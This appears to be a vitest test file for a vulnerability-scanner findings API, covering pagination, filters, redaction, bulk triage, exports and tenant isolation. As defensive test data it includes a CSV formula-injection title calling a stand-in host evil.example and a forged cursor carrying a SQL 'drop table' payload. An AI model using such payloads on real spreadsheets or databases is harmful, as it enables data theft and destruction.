// The findings API: filtered lists with keyset pagination in every sort and severity counts, the
// detail with evidence and history, bulk status changes with their rules and audit entries, the
// CSV / JSON / SARIF exports, and isolation between tenants.
// Over 500 lines on purpose: one feature's cases share a single app, tenants and loopback peers set up once; splitting
// them would repeat that set-up in every file.
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { withService, withTenant } from '../../src/db/tenant.ts';
import type { Clock } from '../../src/lib/clock.ts';
import type { NormalizedFindingInput } from '../../src/findings/index.ts';
import type { FindingDetail, FindingList, FindingSummary } from '../../src/findings/findings-schemas.ts';
import { createTestApp, TEST_BASE_URL, uniqueEmail, type TestApp } from '../helpers/app.ts';
import { ingestFindings } from '../helpers/findings.ts';
import { Client } from '../helpers/client.ts';

const RUN = Math.random().toString(36).slice(2, 8);
const DAY = 86_400_000;
let offset = 0;
const clock: Clock = { now: () => new Date(Date.now() + offset) };

let t: TestApp;
let owner: Client;
let tenant: string;
let assetA: string;
let assetB: string;
/** Every scan scanAndIngest made, in order. */
const scanIds: string[] = [];
const base = () => `/api/v1/tenants/${tenant}/findings`;

async function addAsset(c: Client, tenantId: string, label: string): Promise<string> {
  const res = await c.post(`/api/v1/tenants/${tenantId}/assets`, {
    kind: 'host',
    target: `${label}-${RUN}.example.test`,
  });
  expect(res.statusCode, res.body).toBe(201);
  return (res.json() as { asset: { id: string } }).asset.id;
}

async function scanAndIngest(tenantId: string, assetId: string, kind: string, findings: NormalizedFindingInput[]) {
  const scanId = await withTenant(
    t.database.db,
    { tenantId },
    async (tx) =>
      (
        await tx
          .insertInto('scans')
          .values({ tenant_id: tenantId, asset_id: assetId, kind: kind as 'port', status: 'succeeded' })
          .returning('id')
          .executeTakeFirstOrThrow()
      ).id,
  );
  scanIds.push(scanId);
  return ingestFindings(t.app.services.findingsIngest, { scanId, findings });
}

const list = async (query: string) => {
  const res = await owner.get(`${base()}?${query}`);
  expect(res.statusCode, res.body).toBe(200);
  return res.json() as FindingList;
};

/** Every page of a query, following nextCursor. */
async function all(query: string, limit: number): Promise<FindingSummary[]> {
  const out: FindingSummary[] = [];
  let cursor: string | null = null;
  for (let i = 0; i < 100; i++) {
    const page = await list(`${query}&limit=${limit}${cursor ? `&cursor=${cursor}` : ''}`);
    expect(page.findings.length).toBeLessThanOrEqual(limit);
    out.push(...page.findings);
    cursor = page.nextCursor;
    if (!cursor) return out;
  }
  throw new Error('pagination did not end');
}

const RANK = { info: 0, low: 1, medium: 2, high: 3, critical: 4 } as const;

const SEVERITIES = ['critical', 'high', 'medium', 'low', 'info'] as const;
const web = (i: number): NormalizedFindingInput => ({
  ruleId: `rule-${i % 4}`,
  title:
    i === 3
      ? `=HYPERLINK("http://evil.example/?x="&A1,"click") finding ${i}`
      : `Finding number ${i}${i % 5 === 0 ? ' with needle' : ''}`,
  severity: SEVERITIES[i % 5]!,
  cvss: { score: (i % 10) + 0.5, vector: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H' },
  cwe: i % 3 === 0 ? ['CWE-79'] : [200],
  cve: i % 7 === 0 ? [`CVE-2024-${1000 + i}`] : [],
  location: { url: `https://app-${RUN}.example.test/p${i}?session=abc`, ...(i % 2 ? { param: 'q' } : {}) },
  evidence: {
    summary: `summary ${i}`,
    request: `GET /p${i} HTTP/1.1\r\nAuthorization: Bearer tok-${i}-secret\r\n`,
    response: `RESPONSE-BODY-${i}`,
  },
  remediation: i % 2 ? '+SUM(1,1) then fix it' : 'Set the header.',
  references: ['https://owasp.org/'],
});

beforeAll(async () => {
  t = await createTestApp({ deps: { clock } });
  owner = new Client(t.app);
  await owner.signUp(uniqueEmail('findings-api-owner'));
  tenant = await owner.createTenant('Findings API Co');
  await owner.me();
  assetA = await addAsset(owner, tenant, 'a');
  assetB = await addAsset(owner, tenant, 'b');
  // 23 web findings on A found over three scans at different times (two then gone: fixed), and
  // port findings on B.
  await scanAndIngest(
    tenant,
    assetA,
    'webapp',
    Array.from({ length: 20 }, (_, i) => web(i)),
  );
  offset += DAY;
  await scanAndIngest(
    tenant,
    assetA,
    'webapp',
    Array.from({ length: 23 }, (_, i) => web(i)),
  );
  offset += DAY;
  await scanAndIngest(
    tenant,
    assetA,
    'webapp',
    Array.from({ length: 21 }, (_, i) => web(i + 2)),
  );
  await scanAndIngest(tenant, assetB, 'port', [
    {
      ruleId: 'open-port',
      title: 'Open port 22/tcp',
      severity: 'info',
      location: { host: 'b.example.test', port: 22 },
    },
    {
      ruleId: 'exposed-db',
      title: 'PostgreSQL reachable from the internet',
      severity: 'critical',
      location: { host: 'b.example.test', port: 5432 },
    },
  ]);
}, 60_000);
afterAll(() => t.close());

describe('listing findings', () => {
  it('filters by the scan that reported a finding last (the link from a scan page)', async () => {
    const [first, second, third, portScan] = scanIds;
    // The third web scan reported web(2..22); web(0), web(1) were last reported by the second, web(0..1) only.
    const ofThird = (await list(`scanId=${third}&status=open,fixed&limit=200`)).findings;
    expect(ofThird).toHaveLength(21);
    expect(ofThird.every((f) => f.asset.id === assetA && f.scanner === 'webapp')).toBe(true);
    expect((await list(`scanId=${second}&status=open,fixed&limit=200`)).findings).toHaveLength(2);
    expect((await list(`scanId=${first}&limit=200`)).total).toBe(0);
    const ofPort = await list(`scanId=${portScan}`);
    expect(ofPort.findings.map((f) => f.title).sort()).toEqual([
      'Open port 22/tcp',
      'PostgreSQL reachable from the internet',
    ]);
    const bad = await owner.get(`${base()}?scanId=not-a-scan`);
    expect(bad.statusCode).toBe(400);
  });

  it('pages through every sort and direction without gaps, repeats or disorder', async () => {
    const everything = (await list(`assetId=${assetA}&limit=200`)).findings;
    expect(everything).toHaveLength(23);
    const c = (x: string, y: string) => (x < y ? -1 : x > y ? 1 : 0);
    const cmp = {
      severity: (a: FindingSummary, b: FindingSummary) =>
        RANK[a.severity] - RANK[b.severity] || c(a.lastSeenAt, b.lastSeenAt) || c(a.id, b.id),
      first_seen: (a: FindingSummary, b: FindingSummary) => c(a.firstSeenAt, b.firstSeenAt) || c(a.id, b.id),
      last_seen: (a: FindingSummary, b: FindingSummary) => c(a.lastSeenAt, b.lastSeenAt) || c(a.id, b.id),
      sla_due: (a: FindingSummary, b: FindingSummary) => c(a.slaDueAt ?? '9999', b.slaDueAt ?? '9999') || c(a.id, b.id),
    };
    for (const sort of ['severity', 'first_seen', 'last_seen', 'sla_due'] as const) {
      for (const dir of ['asc', 'desc'] as const) {
        const got = await all(`assetId=${assetA}&sort=${sort}&dir=${dir}`, 4);
        const expected = [...everything].sort((a, b) => (dir === 'asc' ? cmp[sort](a, b) : cmp[sort](b, a)));
        expect(
          got.map((f) => f.id),
          `${sort} ${dir}`,
        ).toEqual(expected.map((f) => f.id));
      }
    }
    // Defaults: worst first; soonest due first.
    const worst = await list(`assetId=${assetA}&limit=3`);
    expect(worst.findings.map((f) => f.severity)).toEqual(['critical', 'critical', 'critical']);
    expect(worst.counts).not.toBeNull();
    // Counts and total come with the first page only.
    expect(await list(`assetId=${assetA}&limit=3&cursor=${worst.nextCursor}`)).toMatchObject({
      counts: null,
      total: null,
    });
    expect((await all(`assetId=${assetA}&sort=sla_due`, 10)).at(-1)!.slaDueAt).toBeNull();
  });

  it('filters by severity, status, asset, scanner, rule, CWE, CVE, text, overdue and first-seen range, with counts', async () => {
    const a = `assetId=${assetA}`;
    const crit = await list(`${a}&severity=critical,high&limit=200`);
    expect(crit.findings.every((f) => f.severity === 'critical' || f.severity === 'high')).toBe(true);
    expect(crit.total).toBe(crit.findings.length);
    // Counts leave the severity filter out, so the chips show what other severities hold.
    expect(crit.counts).toEqual({ critical: 5, high: 5, medium: 5, low: 4, info: 4 });
    expect(crit.total).toBe(10);
    expect((await list('severity=critical&severity=high&limit=200')).total).toBe(11); // repeated keys; B's critical too

    const fixed = await list(`${a}&status=fixed&limit=200`);
    expect(fixed.findings.map((f) => f.title).sort()).toEqual(['Finding number 0 with needle', 'Finding number 1']);
    expect(fixed.findings.every((f) => f.fixedAt !== null && f.status === 'fixed')).toBe(true);
    expect((await list(`status=open&scanner=port&limit=200`)).findings.map((f) => f.asset.id)).toEqual([
      assetB,
      assetB,
    ]);
    expect((await list(`${a}&ruleId=RULE-1&limit=200`)).findings.every((f) => f.ruleId === 'rule-1')).toBe(true);
    const xss = await list(`${a}&cwe=CWE-79&limit=200`);
    expect(xss.findings.length).toBe(8);
    expect(xss.findings.every((f) => f.cweIds.includes(79))).toBe(true);
    expect((await list(`${a}&cwe=79&limit=200`)).total).toBe(8);
    expect((await list(`${a}&cve=cve-2024-1014&limit=200`)).findings.map((f) => f.cveIds)).toEqual([['CVE-2024-1014']]);
    expect((await list(`${a}&q=needle&limit=200`)).findings.map((f) => f.title).sort()).toEqual(
      [
        'Finding number 0 with needle',
        'Finding number 10 with needle',
        'Finding number 15 with needle',
        'Finding number 20 with needle',
        'Finding number 5 with needle',
      ].sort(),
    );
    expect((await list(`${a}&q=${encodeURIComponent('/p17')}`)).findings.map((f) => f.locationText)).toEqual([
      `https://app-${RUN}.example.test/p17 [q]`,
    ]);
    expect((await list(`${a}&q=${encodeURIComponent('100%')}`)).total).toBe(0); // LIKE wildcards are literal
    const firstScanOnly = await list(
      `${a}&firstSeenTo=${encodeURIComponent(new Date(Date.now() + offset - 1.5 * DAY).toISOString())}&limit=200`,
    );
    expect(firstScanOnly.total).toBe(20);
    expect(
      (
        await list(
          `${a}&firstSeenFrom=${encodeURIComponent(new Date(Date.now() + offset - 1.5 * DAY).toISOString())}&limit=200`,
        )
      ).total,
    ).toBe(3);

    expect((await list(`${a}&overdue=true`)).total).toBe(0);
    offset += 8 * DAY; // critical SLA is 7 days from first seen
    const overdue = await list(`${a}&overdue=true&limit=200`);
    expect(overdue.findings.length).toBeGreaterThan(0);
    expect(overdue.findings.every((f) => f.overdue && f.status === 'open' && f.severity === 'critical')).toBe(true);
    expect((await list(`${a}&overdue=false&limit=200`)).total).toBe(23 - overdue.total!);
    offset -= 8 * DAY;
  });

  it('refuses bad filters and cursors with 400, never 500', async () => {
    const page = await list(`assetId=${assetA}&limit=2`);
    const other = await list(`assetId=${assetA}&limit=2&sort=first_seen`);
    const forged = Buffer.from(JSON.stringify(['severity', 'desc', 4, 'not-a-time', page.findings[0]!.id])).toString(
      'base64url',
    );
    const injected = Buffer.from(
      JSON.stringify([
        'severity',
        'desc',
        '4); drop table findings; --',
        '2024-01-01T00:00:00.000000Z',
        page.findings[0]!.id,
      ]),
    ).toString('base64url');
    for (const q of [
      `cursor=${other.nextCursor}`,
      `cursor=${page.nextCursor}&dir=asc`,
      `cursor=${forged}`,
      `cursor=${injected}`,
      'cursor=%%%',
      'cursor=abc',
      'severity=severe',
      'status=closed',
      'limit=0',
      'limit=1000',
      'sort=title',
      'cwe=XSS',
      'cve=CVE-1',
      'assetId=nope',
      'overdue=yes',
      'firstSeenFrom=yesterday',
    ]) {
      const res = await owner.get(`${base()}?${q}`);
      expect([res.statusCode, res.json().error], q).toEqual([400, 'validation_failed']);
    }
  });
});

describe('a finding in detail', () => {
  it('shows evidence (with credentials redacted), location, references and history', async () => {
    const [f] = (await list(`assetId=${assetA}&q=${encodeURIComponent('/p5')}`)).findings;
    const res = await owner.get(`${base()}/${f!.id}`);
    expect(res.statusCode, res.body).toBe(200);
    const d = res.json() as FindingDetail;
    expect(d.finding).toMatchObject({
      id: f!.id,
      scanner: 'webapp',
      cvssScore: 5.5,
      cvssVector: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H',
      location: {
        scheme: 'https',
        host: `app-${RUN}.example.test`,
        port: 443,
        path: '/p5',
        param: 'q',
        url: `https://app-${RUN}.example.test/p5`,
      },
      references: ['https://owasp.org/'],
      asset: { id: assetA, target: `a-${RUN}.example.test` },
    });
    expect(d.finding.evidence).toMatchObject({ summary: 'summary 5', response: 'RESPONSE-BODY-5' });
    expect(JSON.stringify(d)).not.toContain('tok-5-secret');
    expect(d.history).toEqual([
      {
        id: 0,
        at: d.finding.firstSeenAt,
        event: 'created',
        fromStatus: null,
        toStatus: 'open',
        scanId: d.finding.firstScanId,
        reason: null,
        detail: { severity: d.finding.severity },
        actorEmail: null,
      },
    ]);
    const missing = await owner.get(`${base()}/00000000-0000-4000-8000-000000000000`);
    expect([missing.statusCode, missing.json().error]).toEqual([404, 'finding_not_found']);
  });
});

describe('bulk status changes', () => {
  const ids = async (n: number, query = `assetId=${assetA}&status=open`) =>
    (await list(`${query}&limit=${n}`)).findings.map((f) => f.id);
  const bulk = (body: unknown, c = owner) => c.post(`${base()}/status`, body);

  it('checks reasons, expiry and sizes, and changes all or nothing', async () => {
    const [a, b] = await ids(2);
    const future = (days: number) => new Date(Date.now() + offset + days * DAY).toISOString();
    const cases: [unknown, string][] = [
      [{ ids: [a], status: 'false_positive' }, 'body.reason'],
      [{ ids: [a], status: 'accepted_risk', reason: 'compensating control' }, 'body.expiresAt'],
      [{ ids: [a], status: 'accepted_risk', reason: 'compensating control', expiresAt: future(-1) }, 'body.expiresAt'],
      [{ ids: [a], status: 'accepted_risk', reason: 'compensating control', expiresAt: future(400) }, 'body.expiresAt'],
      [{ ids: [a], status: 'fixed', expiresAt: future(3) }, 'body.expiresAt'],
      [{ ids: [], status: 'fixed' }, 'body.ids'],
      [
        {
          ids: Array.from({ length: 501 }, (_, i) => `00000000-0000-4000-8000-${String(i).padStart(12, '0')}`),
          status: 'fixed',
        },
        'body.ids',
      ],
      [{ ids: ['x'], status: 'fixed' }, 'body.ids.0'],
      [{ ids: [a], status: 'closed' }, 'body.status'],
    ];
    for (const [body, path] of cases) {
      const res = await bulk(body);
      expect(res.statusCode, JSON.stringify(body)).toBe(400);
      expect(res.json()).toMatchObject({
        error: 'validation_failed',
        details: expect.arrayContaining([expect.objectContaining({ path })]),
      });
    }
    const unknown = await bulk({ ids: [a, '00000000-0000-4000-8000-000000000000'], status: 'fixed' });
    expect([unknown.statusCode, unknown.json().error]).toEqual([404, 'finding_not_found']);
    expect(unknown.json().details).toEqual({ missing: ['00000000-0000-4000-8000-000000000000'] });
    const after = await owner.get(`${base()}/${a}`);
    expect((after.json() as FindingDetail).finding.status).toBe('open');

    const until = future(30);
    const ok = await bulk({ ids: [a, b, a], status: 'accepted_risk', reason: 'behind the VPN', expiresAt: until });
    expect(ok.statusCode, ok.body).toBe(200);
    expect(ok.json()).toEqual({ updated: 2, status: 'accepted_risk' });
    const d = (await owner.get(`${base()}/${a}`)).json() as FindingDetail;
    expect(d.finding).toMatchObject({
      status: 'accepted_risk',
      statusReason: 'behind the VPN',
      statusExpiresAt: until,
    });
    expect(d.history[0]).toMatchObject({
      event: 'status_changed',
      fromStatus: 'open',
      toStatus: 'accepted_risk',
      reason: 'behind the VPN',
      actorEmail: expect.stringContaining('findings-api-owner'),
    });

    // Reopened by hand: open again, expiry cleared.
    const reopen = await bulk({ ids: [a, b], status: 'open' });
    expect(reopen.statusCode).toBe(200);
    expect(((await owner.get(`${base()}/${a}`)).json() as FindingDetail).finding).toMatchObject({
      status: 'open',
      statusExpiresAt: null,
      statusReason: null,
    });

    const audit = (await owner.get(`/api/v1/tenants/${tenant}/audit-log?action=finding.status_changed`)).json() as {
      entries: { action: string; details: Record<string, unknown> }[];
    };
    expect(audit.entries.map((e) => e.details.status)).toEqual(['open', 'accepted_risk']);
    expect(audit.entries[1]!.details).toMatchObject({ count: 2, reason: 'behind the VPN', ids: [a, b] });
  });

  it('lets plain members triage, but only owners and admins accept risk', async () => {
    const email = uniqueEmail('findings-member');
    const inv = await owner.post('/api/auth/organization/invite-member', {
      email,
      role: 'member',
      organizationId: tenant,
    });
    expect(inv.statusCode, inv.body).toBe(200);
    const invitationId = new URL(t.mailer.lastLink(email, /invited you/)).pathname.split('/').pop()!;
    const member = new Client(t.app);
    await member.signUp(email);
    await member.get(t.mailer.lastLink(email, /verify/i).replace(TEST_BASE_URL, ''));
    expect((await member.post('/api/auth/organization/accept-invitation', { invitationId })).statusCode).toBe(200);
    await member.me();
    const [a] = await ids(1);
    const denied = await bulk(
      {
        ids: [a],
        status: 'accepted_risk',
        reason: 'looks fine',
        expiresAt: new Date(Date.now() + offset + DAY).toISOString(),
      },
      member,
    );
    expect([denied.statusCode, denied.json().error]).toEqual([403, 'tenant_forbidden']);
    const fp = await bulk({ ids: [a], status: 'false_positive', reason: 'test fixture page' }, member);
    expect(fp.statusCode, fp.body).toBe(200);
    expect(((await member.get(`${base()}/${a}`)).json() as FindingDetail).finding).toMatchObject({
      status: 'false_positive',
      statusReason: 'test fixture page',
    });
  });
});

describe('exports', () => {
  const exp = (q: string) => owner.get(`${base()}/export?${q}`);

  it('exports CSV with spreadsheet formulas neutralised and a timestamped file name', async () => {
    const res = await exp(`format=csv&assetId=${assetA}`);
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="rampart-findings-\d{8}-\d{6}\.csv"$/);
    const lines = res.body.trim().split('\n');
    expect(lines[0]).toBe(
      'ID,Severity,Status,Title,Asset,Asset target,Scanner,Rule,CVSS score,CVSS vector,CWE,CVE,Location,First seen,Last seen,Fixed,SLA due,Overdue,Status reason,Accepted until,Remediation,References,Fingerprint',
    );
    expect(lines).toHaveLength(24);
    // The formula title is prefixed with a quote; so is the remediation starting with +.
    expect(res.body).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"") finding 3"`);
    expect(res.body).toContain(`'+SUM(1,1) then fix it`);
    expect(res.body).not.toMatch(/(^|,)=HYPERLINK/m);
    expect(res.body).not.toMatch(/(^|,)\+SUM/m);
    expect(res.body).not.toContain('secret');
    expect(res.body).not.toContain('RESPONSE-BODY');
  });

  it('exports JSON with the same filters', async () => {
    const res = await exp(`format=json&assetId=${assetA}&severity=critical`);
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toMatch(/^application\/json/);
    const doc = JSON.parse(res.body) as {
      format: string;
      count: number;
      filters: Record<string, unknown>;
      findings: (FindingSummary & { evidenceSummary: string; fingerprint: string })[];
    };
    expect(doc.format).toBe('rampart-findings');
    expect(doc.filters).toMatchObject({ assetId: assetA, severity: ['critical'] });
    expect(doc.count).toBe(5);
    expect(doc.findings).toHaveLength(5);
    expect(
      doc.findings.every(
        (f) =>
          f.severity === 'critical' && /^[0-9a-f]{64}$/.test(f.fingerprint) && f.evidenceSummary.startsWith('summary'),
      ),
    ).toBe(true);
    expect(res.body).not.toContain('secret');
    expect(res.body).not.toContain('RESPONSE-BODY');
  });

  it('exports SARIF 2.1.0 with rules, levels, locations, fingerprints and suppressions', async () => {
    const res = await exp('format=sarif');
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toMatch(/^application\/sarif\+json/);
    expect(res.headers['content-disposition']).toMatch(/\.sarif"$/);
    const sarif = JSON.parse(res.body) as {
      $schema: string;
      version: string;
      runs: {
        tool: {
          driver: {
            name: string;
            rules: { id: string; properties: { tags: string[]; 'security-severity': string } }[];
          };
        };
        results: Record<string, unknown>[];
      }[];
    };
    expect(sarif.version).toBe('2.1.0');
    expect(sarif.$schema).toMatch(/sarif-2\.1\.0/);
    expect(sarif.runs).toHaveLength(1);
    const [run] = sarif.runs;
    expect(run!.tool.driver.name).toBe('Rampart');
    expect(run!.results).toHaveLength(25);
    const ruleIds = run!.tool.driver.rules.map((r) => r.id);
    expect(new Set(ruleIds).size).toBe(ruleIds.length);
    expect(ruleIds.sort()).toEqual([
      'port/exposed-db',
      'port/open-port',
      'webapp/rule-0',
      'webapp/rule-1',
      'webapp/rule-2',
      'webapp/rule-3',
    ]);
    for (const r of run!.results as {
      ruleId: string;
      ruleIndex: number;
      level: string;
      message: { text: string };
      partialFingerprints: Record<string, string>;
      properties: { severity: string };
    }[]) {
      expect(run!.tool.driver.rules[r.ruleIndex]!.id).toBe(r.ruleId);
      expect(r.level).toBe(
        { critical: 'error', high: 'error', medium: 'warning', low: 'note', info: 'note' }[r.properties.severity],
      );
      expect(r.message.text.length).toBeGreaterThan(0);
      expect(r.partialFingerprints['rampartFinding/v1']).toMatch(/^[0-9a-f]{64}$/);
    }
    const db = run!.results.find((r) => r.ruleId === 'port/exposed-db') as {
      locations: { logicalLocations: { fullyQualifiedName: string }[] }[];
    };
    expect(db.locations[0]!.logicalLocations[0]!.fullyQualifiedName).toContain('tcp://b.example.test:5432');
    const webResult = run!.results.find((r) => r.ruleId === 'webapp/rule-2') as {
      locations: { physicalLocation: { artifactLocation: { uri: string } } }[];
    };
    expect(webResult.locations[0]!.physicalLocation.artifactLocation.uri).toMatch(/^https:\/\/app-.*\/p\d+$/);
    const suppressed = run!.results.filter((r) => r.suppressions);
    expect(suppressed.length).toBeGreaterThan(0); // the member's false positive
    expect(suppressed[0]).toMatchObject({
      suppressions: [{ kind: 'external', status: 'accepted', justification: 'False positive: test fixture page' }],
    });
    expect(run!.tool.driver.rules.find((r) => r.id === 'webapp/rule-0')!.properties.tags).toContain(
      'external/cwe/cwe-79',
    );
    expect(res.body).not.toContain('secret');
  });

  it('refuses a bad format with 400', async () => {
    for (const q of ['format=xml', '', 'format=csv&severity=bad']) {
      const res = await exp(q);
      expect([res.statusCode, res.json().error], q).toEqual([400, 'validation_failed']);
    }
  });
});

describe('tenant isolation', () => {
  it('gives other tenants neither the list, the detail, the export nor a status change', async () => {
    const [victim] = (await list(`assetId=${assetA}&limit=1`)).findings;
    const other = new Client(t.app);
    await other.signUp(uniqueEmail('findings-outsider'));
    for (const path of ['', `/${victim!.id}`, '/export?format=json']) {
      const res = await other.get(`${base()}${path}`);
      expect([res.statusCode, res.json().error], path).toEqual([403, 'tenant_forbidden']);
    }
    const own = await other.createTenant('Outsider Co');
    await other.me();
    const ownBase = `/api/v1/tenants/${own}/findings`;
    expect((await other.get(`${ownBase}/${victim!.id}`)).json()).toMatchObject({ error: 'finding_not_found' });
    expect((await other.get(ownBase)).json()).toMatchObject({ findings: [], total: 0 });
    const res = await other.post(`${ownBase}/status`, { ids: [victim!.id], status: 'fixed' });
    expect([res.statusCode, res.json().error]).toEqual([404, 'finding_not_found']);
    const exported = JSON.parse((await other.get(`${ownBase}/export?format=json`)).body) as { count: number };
    expect(exported.count).toBe(0);
    // Row-level security holds even for a query that forgets the tenant filter.
    const seen = await withTenant(t.database.db, { tenantId: own }, (tx) =>
      tx.selectFrom('findings').select('id').execute(),
    );
    expect(seen).toEqual([]);
    // The victim's tenant has events (a status change), and none of them are visible from the other tenant.
    await withService(t.database.db, (tx) =>
      tx
        .insertInto('finding_events')
        .values({
          tenant_id: tenant,
          finding_id: victim!.id,
          event: 'status_changed',
          from_status: victim!.status,
          to_status: victim!.status,
          reason: 'isolation check',
        })
        .execute(),
    );
    const events = await withTenant(t.database.db, { tenantId: own }, (tx) =>
      sql<{ n: number }>`select count(*)::int as n from finding_events`.execute(tx),
    );
    expect(events.rows[0]!.n).toBe(0);
    const victims = await withTenant(t.database.db, { tenantId: tenant }, (tx) =>
      sql<{ n: number }>`select count(*)::int as n from finding_events`.execute(tx),
    );
    expect(victims.rows[0]!.n).toBeGreaterThan(0);
    expect(((await owner.get(`${base()}/${victim!.id}`)).json() as FindingDetail).finding.status).toBe(victim!.status);
  });
});
